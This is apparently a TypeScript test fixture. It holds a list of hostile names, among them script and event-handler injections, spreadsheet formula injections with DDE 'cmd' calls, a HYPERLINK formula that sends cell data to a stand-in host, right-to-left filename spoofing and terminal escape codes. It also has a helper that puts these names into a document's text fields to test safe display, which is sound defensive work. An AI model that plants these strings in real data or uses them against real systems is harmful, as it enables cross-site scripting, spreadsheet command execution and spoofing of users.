/** Names that somebody may give to a skill, an agent or a queue to do harm where they are shown. */
export const HOSTILE_NAMES: readonly string[] = [
  '<script>globalThis.broken = 1</script>',
  '"><img src=x onerror="globalThis.broken=1">',
  "' onmouseover='globalThis.broken=1",
  '</title></style></svg><iframe src="https://example.com/">',
  '=HYPERLINK("https://example.com/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '\u202Egnp.exe\u202C',
  '\u2066left\u2069\u200B\u200D\u00AD\uFEFF',
  '\u001B]0;owned\u0007\u001B[31mred\u009B2J',
  'שלום (3) عربى',
  'line\nbreak\r\ttab',
  '{{7*7}}<%= 7 %>`x`',
  '&lt;b&gt;&amp;',
  '\uD800 half a pair',
  'a'.repeat(300),
]

/** A document with hostile text in place of every name and message; ids, times and words of ours stay. */
export function withHostileTexts<T>(document: T, keys: ReadonlySet<string> = NAMED): T {
  let next = 0
  return JSON.parse(JSON.stringify(document), (key: string, value: unknown) => {
    if (!keys.has(key) || typeof value !== 'string') return value
    const name = HOSTILE_NAMES[next % HOSTILE_NAMES.length] ?? ''
    next += 1
    return `${name} ${next}`
  })
}

/** Where documents keep what people wrote. */
const NAMED: ReadonlySet<string> = new Set([
  'name',
  'message',
  'reason',
  'by',
  'property',
  'path',
  'action',
  'left',
  'right',
])
